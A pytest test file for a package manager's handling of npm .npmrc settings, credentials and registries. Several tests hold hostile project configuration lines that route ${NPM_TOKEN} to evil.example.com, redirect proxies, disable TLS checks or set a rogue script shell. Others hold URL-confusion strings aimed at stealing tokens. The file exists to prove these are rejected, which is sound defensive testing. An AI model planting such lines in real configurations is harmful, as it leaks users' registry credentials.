"""npm's settings: the file format, the cascade, what a project may not say, and registries."""

from __future__ import annotations

import base64
from collections.abc import Mapping
from pathlib import Path

import pytest

from graft.base.diagnostics import CODES, GraftError
from graft.base.processes import Finished
from graft.project.credentials import Credentials, parse_address
from graft.project.default_registry import DefaultRegistry
from graft.project.ini import expand, parse_ini, references
from graft.project.registries import Registries
from graft.project.settings import Settings, read_settings


class Home:
    """A home, a project in it, and what is asked of them."""

    def __init__(self, path: Path) -> None:
        self.path = path
        self.project = path / "work" / "app"
        self.project.mkdir(parents=True)
        self.user_rc = path / ".npmrc"
        self.project_rc = self.project / ".npmrc"

    def settings(self, environ: Mapping[str, str] | None = None, **flags: str) -> Settings:
        return read_settings(
            str(self.project),
            environ or {},
            str(self.path),
            {name.replace("_", "-"): value for name, value in flags.items()},
        )


@pytest.fixture
def home(tmp_path: Path) -> Home:
    return Home(tmp_path)


def values(text: str) -> list[tuple[str, str]]:
    return [(line.key, line.value) for line in parse_ini(text)]


# The file format


def test_lines_comments_quotes_and_bare_keys() -> None:
    text = """\ufeff; a comment
# another
registry = https://registry.example.com/
save-exact
"quoted key"="with ; and # inside"
single='as it is \\n'
escaped=a\\;b\\#c\\\\d
trailing=value ; a comment
empty=
pem="one\\ntwo"
[section]
not=read
"""
    assert values(text) == [
        ("registry", "https://registry.example.com/"),
        ("save-exact", "true"),
        ("quoted key", "with ; and # inside"),
        ("single", "as it is \\n"),
        ("escaped", "a;b#c\\d"),
        ("trailing", "value"),
        ("empty", ""),
        ("pem", "one\ntwo"),
    ]


def test_a_value_may_hold_equals_signs() -> None:
    assert values("//host/:_authToken=abc==") == [("//host/:_authToken", "abc==")]


def test_lists_are_marked_and_lines_counted() -> None:
    lines = list(parse_ini("\nomit[]=dev\nomit[]=peer\n"))
    assert [(line.key, line.value, line.is_list, line.line) for line in lines] == [
        ("omit", "dev", True, 2),
        ("omit", "peer", True, 3),
    ]


@pytest.mark.parametrize(
    ("text", "expanded"),
    [
        ("${SET}", "value"),
        ("a${SET}b${SET}", "avaluebvalue"),
        ("${UNSET}", "${UNSET}"),
        ("${UNSET?}", ""),
        ("${SET?}", "value"),
        ("${UNSET-other}", "other"),
        ("${EMPTY-other}", ""),
        ("${EMPTY:-other}", "other"),
        ("${UNSET:-}", ""),
        (r"\${SET}", "${SET}"),
        (r"\\${SET}", "\\value"),
        ("$SET", "$SET"),
    ],
)
def test_variables_are_expanded_as_npm_and_pnpm_do(text: str, expanded: str) -> None:
    assert expand(text, {"SET": "value", "EMPTY": ""}) == expanded


def test_references_are_those_that_would_be_expanded() -> None:
    assert references(r"${A} \${B} \\${C-d}") == ["A", "C"]


# The cascade


def test_each_layer_wins_over_the_one_below(home: Home, tmp_path: Path) -> None:
    top = tmp_path / "global"
    top.write_text("tag=global\n")

    def tag(environ: Mapping[str, str], **flags: str) -> str:
        return home.settings({"npm_config_globalconfig": str(top), **environ}, **flags).tag

    assert home.settings().tag == "latest"
    assert tag({}) == "global"
    home.user_rc.write_text("tag=user")
    assert tag({}) == "user"
    home.project_rc.write_text("tag=project")
    assert tag({}) == "project"
    assert tag({"NPM_CONFIG_TAG": "environment"}) == "environment"
    assert tag({"npm_config_tag": "environment"}, tag="flag") == "flag"


def test_the_users_file_may_lie_elsewhere(home: Home, tmp_path: Path) -> None:
    (tmp_path / "elsewhere").write_text("save-exact=true\n")
    assert home.settings({"NPM_CONFIG_USERCONFIG": str(tmp_path / "elsewhere")}).save_exact


def test_empty_variables_are_unset_and_underscores_are_dashes(home: Home) -> None:
    home.user_rc.write_text("save-prefix=~")
    assert home.settings({"npm_config_save_prefix": ""}).save_prefix == "~"
    assert home.settings({"npm_config_SAVE_prefix": "^"}).save_prefix == "^"


def test_a_token_can_come_from_the_environment(home: Home) -> None:
    settings = home.settings({"npm_config_//registry.example.com/:_authToken": "abc"})
    assert settings.registries.authorization_for("https://registry.example.com/a") == "Bearer abc"


def test_numbers_and_times_reach_the_http_client(home: Home) -> None:
    home.user_rc.write_text(
        "maxsockets=7\nfetch-retries=1\nfetch-retry-factor=3\nfetch-retry-mintimeout=50\n"
        "fetch-retry-maxtimeout=900\nfetch-timeout=5000\ncafile=~/ca.pem\nstrict-ssl=false\n"
    )
    settings = home.settings({"HTTPS_PROXY": "http://proxy.example.com:8080", "NO_PROXY": ""})
    http = settings.http
    assert (http.max_sockets, http.idle_timeout, http.strict_ssl) == (7, 5.0, False)
    assert (http.retry.retries, http.retry.factor) == (1, 3.0)
    assert (http.retry.shortest, http.retry.longest) == (0.05, 0.9)
    assert http.cafile == str(home.path / "ca.pem")
    assert http.https_proxy == "http://proxy.example.com:8080"
    assert [note.code for note in settings.notes] == ["tls-unverified"]


def test_a_value_of_the_wrong_type_names_file_and_line(home: Home) -> None:
    home.user_rc.write_text("\nmaxsockets=many\n")
    with pytest.raises(GraftError) as caught:
        home.settings()
    assert caught.value.diagnostic.code == "settings-unreadable"
    assert caught.value.diagnostic.where == f"{home.user_rc}:2"


def test_a_file_that_is_no_text_names_file_and_line(home: Home) -> None:
    home.user_rc.write_bytes(b"tag=a\nregistry=\xff\xfe\n")
    with pytest.raises(GraftError) as caught:
        home.settings()
    assert caught.value.diagnostic.code == "settings-unreadable"
    assert caught.value.diagnostic.where == f"{home.user_rc}:2"


def test_a_folder_in_place_of_the_file_is_an_error(home: Home) -> None:
    home.user_rc.mkdir()
    with pytest.raises(GraftError, match="cannot read"):
        home.settings()


@pytest.mark.parametrize(
    ("text", "environ", "omitted"),
    [
        ("", {}, set()),
        ("", {"NODE_ENV": "production"}, {"dev"}),
        ("omit=peer", {"NODE_ENV": "production"}, {"peer"}),
        ("omit[]=dev\nomit[]=optional", {}, {"dev", "optional"}),
        ("omit=dev\ninclude=dev", {}, set()),
        ("production=true", {}, {"dev"}),
        ("optional=false", {}, {"optional"}),
    ],
)
def test_what_is_omitted(home: Home, text: str, environ: dict[str, str], omitted: set[str]) -> None:
    home.user_rc.write_text(text)
    assert home.settings(environ).omit == omitted


def test_paths_follow_the_environment(home: Home) -> None:
    settings = home.settings()
    assert settings.store_root == str(home.path / ".local/share/graft")
    assert settings.cache_root == str(home.path / ".local/share/graft/cache")
    assert settings.user_config == str(home.path / ".config/graft/config.toml")
    elsewhere = {"XDG_DATA_HOME": "/data", "XDG_CONFIG_HOME": "/config"}
    assert home.settings(elsewhere).store_root == "/data/graft"
    assert home.settings(elsewhere).user_config == "/config/graft/config.toml"
    assert home.settings(elsewhere | {"GRAFT_HOME": "/store"}).store_root == "/store"


# What a project may not say


def test_a_project_cannot_send_a_variable_as_a_token(home: Home) -> None:
    line = "//evil.example.com/:_authToken=${NPM_TOKEN}"
    home.project_rc.write_text(f"tag=next\n{line}\n")
    settings = home.settings({"NPM_TOKEN": "s3cret"})
    assert settings.registries.authorization_for("https://evil.example.com/a") == ""
    (note,) = settings.notes
    assert note.code == "credential-in-project"
    assert note.where == f"{home.project_rc}:2"
    assert note.fix.endswith(line)
    assert settings.tag == "next"


def test_the_same_line_works_in_the_users_file(home: Home) -> None:
    home.user_rc.write_text("//registry.example.com/:_authToken=${NPM_TOKEN}\n")
    settings = home.settings({"NPM_TOKEN": "s3cret"})
    url = "https://registry.example.com/a"
    assert settings.registries.authorization_for(url) == "Bearer s3cret"
    assert settings.notes == ()
    assert home.settings().registries.authorization_for(url) == ""


@pytest.mark.parametrize(
    "line",
    [
        "registry=https://evil.example.com/${NPM_TOKEN}/",
        "@acme:registry=https://${NPM_TOKEN}.example.com/",
        "//evil.example.com/${NPM_TOKEN}/:_authToken=x",
        "//evil.example.com/:_password=${NPM_TOKEN-x}",
        "_auth=${NPM_TOKEN}",
    ],
)
def test_a_project_cannot_put_a_variable_into_an_address_or_key(home: Home, line: str) -> None:
    home.project_rc.write_text(line)
    settings = home.settings({"NPM_TOKEN": "s3cret"}, registry="https://registry.example.com/")
    assert [note.code for note in settings.notes] == ["credential-in-project"]
    assert settings.registries.scopes == {}
    assert settings.registries.default_url == "https://registry.example.com/"


def test_a_literal_token_in_a_project_is_its_own_affair(home: Home) -> None:
    home.project_rc.write_text("//registry.example.com/:_authToken=public-read\n")
    authorization = home.settings().registries.authorization_for("https://registry.example.com/a")
    assert authorization == "Bearer public-read"


@pytest.mark.parametrize(
    "line",
    [
        "strict-ssl=false",
        "cafile=ca.pem",
        "proxy=http://evil.example.com/",
        "https-proxy=http://evil.example.com/",
        "cache=/tmp/cache",
        "userconfig=/tmp/npmrc",
        "script-shell=./evil.sh",
        "ignore-scripts=false",
        "//registry.example.com/:keyfile=/home/me/key.pem",
    ],
)
def test_a_project_cannot_steer_the_machine(home: Home, line: str) -> None:
    home.project_rc.write_text(line)
    settings = home.settings()
    (note,) = settings.notes
    assert note.code == "setting-in-project"
    assert note.where == f"{home.project_rc}:1"
    assert settings.http == Home(home.path / "clean").settings().http


def test_a_project_may_choose_its_registry_and_its_habits(home: Home) -> None:
    home.project_rc.write_text(
        "registry=https://registry.example.com\n@acme:registry=https://acme.example.com/npm\n"
        "save-exact=true\nomit=optional\nignore-scripts=true\n"
    )
    settings = home.settings()
    assert settings.notes == ()
    assert settings.registries.url_for("a") == "https://registry.example.com/"
    assert settings.registries.url_for("@acme/tool") == "https://acme.example.com/npm/"
    assert settings.save_exact and settings.omit == {"optional"}


def test_notes_do_not_repeat_secrets(home: Home) -> None:
    home.project_rc.write_text(
        "proxy=http://me:hush@proxy.example.com/\n"
        "//registry.example.com/:_authToken=hush${A}\n"
        'key="-----BEGIN PRIVATE KEY-----hush"\n'
    )
    notes = home.settings().notes
    assert len(notes) == 3
    assert "hush" not in repr(notes)


def test_in_the_home_folder_the_file_is_the_users(tmp_path: Path) -> None:
    (tmp_path / ".npmrc").write_text("//registry.example.com/:_authToken=${T}\n")
    settings = read_settings(str(tmp_path), {"T": "t"}, str(tmp_path), {})
    assert settings.notes == ()
    assert settings.registries.authorization_for("https://registry.example.com/") == "Bearer t"


def test_every_note_has_a_known_code(home: Home) -> None:
    home.project_rc.write_text("strict-ssl=false\n//h/:_auth=${A}\n")
    home.user_rc.write_text("strict-ssl=false\n")
    assert {note.code for note in home.settings().notes} <= CODES.keys()


# Credentials


def test_the_longest_prefix_wins() -> None:
    found = Credentials(
        {
            "//host.example.com/": {"_authToken": "whole"},
            "//host.example.com/team/": {"_authToken": "team"},
            "//host.example.com/team/deep/": {"_authToken": "deep"},
        }
    )
    base = "https://host.example.com"
    assert found.header_for(f"{base}/a") == "Bearer whole"
    assert found.header_for(f"{base}/team/a") == "Bearer team"
    assert found.header_for(f"{base}/team/deep/@s%2fa") == "Bearer deep"
    assert found.header_for(f"{base}/teams/a") == "Bearer whole"
    assert found.header_for(f"{base}/team") == "Bearer whole"


@pytest.mark.parametrize(
    "url",
    [
        "https://other.example.com/",
        "https://host.example.com.evil.example/",
        "https://evil.example/host.example.com/",
        "https://evil.example/?//host.example.com/",
        "https://host.example.com@evil.example/",
        "https://host.example.com:8443/",
        "http://host.example.com/",
        "ftp://host.example.com/",
        "https://evil.example\\@host.example.com/",
        "host.example.com/",
    ],
)
def test_a_token_belongs_to_one_host_and_port(url: str) -> None:
    found = Credentials({"//host.example.com/": {"_authToken": "t"}})
    assert found.header_for("https://host.example.com/") == "Bearer t"
    assert found.header_for("https://HOST.example.com:443/") == "Bearer t"
    assert found.header_for(url) == ""


def test_dot_segments_cannot_borrow_a_deeper_token() -> None:
    found = Credentials({"//host.example.com/team/": {"_authToken": "team"}})
    assert found.header_for("https://host.example.com/team/../other/a") == ""
    assert found.header_for("https://host.example.com/team/%2E%2e/other/a") == ""


def test_plain_http_needs_a_registry_that_the_user_configured_so(home: Home) -> None:
    home.user_rc.write_text("//registry.example.com/:_authToken=t\n")
    home.project_rc.write_text("registry=http://registry.example.com/\n")
    assert home.settings().registries.authorization_for("http://registry.example.com/a") == ""
    with home.user_rc.open("a") as file:
        file.write("registry=http://registry.example.com/\n")
    found = home.settings().registries.authorization_for("http://registry.example.com/a")
    assert found == "Bearer t"


def test_the_colons_of_an_ipv6_address_are_no_port() -> None:
    fields = {"//[::1]/": {"_authToken": "t"}, "//[::1]:4873/": {"_authToken": "u"}}
    credentials = Credentials(fields)
    assert credentials.header_for("https://[::1]/pkg") == "Bearer t"
    assert credentials.header_for("http://[::1]/pkg") == ""
    assert credentials.header_for("http://[::1]:4873/pkg") == "Bearer u"
    allowed = Credentials(fields, frozenset({"[::1]"}))
    assert allowed.header_for("http://[::1]/pkg") == "Bearer t"


def test_basic_credentials() -> None:
    pair = base64.b64encode(b"me:word").decode()
    password = base64.b64encode(b"word").decode()
    for said in ({"_auth": pair}, {"username": "me", "_password": password}):
        found = Credentials({"//host.example.com/": said})
        assert found.header_for("https://host.example.com/a") == f"Basic {pair}"
    broken = Credentials({"//host.example.com/": {"username": "me", "_password": "%%%"}})
    assert broken.header_for("https://host.example.com/a") == ""


def test_halves_of_a_credential_merge_across_layers(home: Home) -> None:
    home.user_rc.write_text("//registry.example.com/:username=me\n")
    environ = {"npm_config_//registry.example.com/:_password": base64.b64encode(b"w").decode()}
    found = home.settings(environ).registries.authorization_for("https://registry.example.com/")
    assert found == f"Basic {base64.b64encode(b'me:w').decode()}"


def test_credentials_in_a_registry_url_go_into_the_header_and_nowhere_else(home: Home) -> None:
    home.user_rc.write_text("@acme:registry=https://me:w%40rd@acme.example.com/npm/\n")
    found = home.settings(None, registry="https://registry.example.com/").registries
    assert found.url_for("@acme/tool") == "https://acme.example.com/npm/"
    assert found.origin_for("@acme/tool") == "https://acme.example.com/npm/"
    header = base64.b64encode(b"me:w@rd").decode()
    assert found.authorization_for("https://acme.example.com/npm/@acme%2ftool") == f"Basic {header}"


def test_addresses_are_taken_apart() -> None:
    address = parse_address("HTTPS://User@Host.example.com:443/A/b?q#f")
    assert address is not None
    assert (address.url, address.user) == ("https://host.example.com/A/b", "User")
    assert parse_address("file:///etc/passwd") is None
    assert parse_address("https:///path") is None


# Registries


def test_origins_are_empty_for_the_default_registry() -> None:
    registries = Registries(
        default="https://registry.example.com",
        scopes={"@acme": "https://acme.example.com", "@same": "https://registry.example.com/"},
    )
    assert registries.origin_for("a") == ""
    assert registries.origin_for("@same/a") == ""
    assert registries.origin_for("@acme/a") == "https://acme.example.com/"
    assert registries.origin_for("@acmes/a") == ""
    assert registries.url_of_origin("") == "https://registry.example.com/"
    assert registries.url_of_origin("https://acme.example.com/") == "https://acme.example.com/"


def test_a_registry_that_is_no_url_names_its_line(home: Home) -> None:
    home.user_rc.write_text("registry=registry.example.com\n")
    with pytest.raises(GraftError) as caught:
        home.settings()
    assert caught.value.diagnostic.code == "settings-unreadable"
    assert caught.value.diagnostic.where == f"{home.user_rc}:1"


class Npm:
    """Counts how often it is asked."""

    def __init__(self, answer: Finished) -> None:
        self.answer = answer
        self.asked: list[str] = []

    def __call__(self, command: list[str], *, cwd: str, **_: object) -> Finished:
        self.asked.append(f"{' '.join(command)} in {cwd}")
        return self.answer


def answering(stdout: str) -> Npm:
    return Npm(Finished(status=0, stdout=stdout, stderr=""))


def default_registry(home: Home, npm: Npm) -> DefaultRegistry:
    path = home.path / ".config" / "graft" / "config.toml"
    return DefaultRegistry(user_config=str(path), home=str(home.path), environ={}, run=npm)


def test_npm_is_asked_once_and_its_answer_remembered(home: Home) -> None:
    npm = answering("https://registry.example.com/\n")
    registries = Registries(find_default=default_registry(home, npm).find)
    assert npm.asked == []
    assert registries.default_url == "https://registry.example.com/"
    assert registries.url_for("a") == registries.url_for("b") == registries.default_url
    assert npm.asked == [f"npm config get registry in {home.path}"]
    assert default_registry(home, npm).find() == "https://registry.example.com/"
    assert len(npm.asked) == 1


def test_remembering_keeps_the_rest_of_the_users_configuration(home: Home) -> None:
    path = home.path / ".config" / "graft" / "config.toml"
    path.parent.mkdir(parents=True)
    path.write_text("# mine\n[other]\nkey = 1\n")
    default_registry(home, answering("https://registry.example.com/\n")).find()
    assert path.read_text() == (
        'registry = "https://registry.example.com/"\n# mine\n[other]\nkey = 1\n'
    )


@pytest.mark.parametrize(
    "answer",
    [
        Finished(status=-1, stdout="", stderr="no npm"),
        Finished(status=0, stdout="undefined\n", stderr=""),
        Finished(status=1, stdout="https://registry.example.com/\n", stderr=""),
    ],
)
def test_without_any_answer_the_line_to_add_is_named(home: Home, answer: Finished) -> None:
    with pytest.raises(GraftError) as caught:
        default_registry(home, Npm(answer)).find()
    assert caught.value.diagnostic.code == "registry-unknown"
    assert "registry=https://registry.example.com/" in caught.value.diagnostic.fix


def test_a_configuration_that_is_not_toml_is_named(home: Home) -> None:
    path = home.path / ".config" / "graft" / "config.toml"
    path.parent.mkdir(parents=True)
    path.write_text("registry = \n")
    with pytest.raises(GraftError) as caught:
        default_registry(home, answering("")).find()
    assert caught.value.diagnostic.where == str(path)


def test_a_configured_registry_asks_nobody(home: Home) -> None:
    home.user_rc.write_text("registry=https://registry.example.com/\n")
    assert home.settings().registries.default_url == "https://registry.example.com/"
    assert not (home.path / ".config").exists()
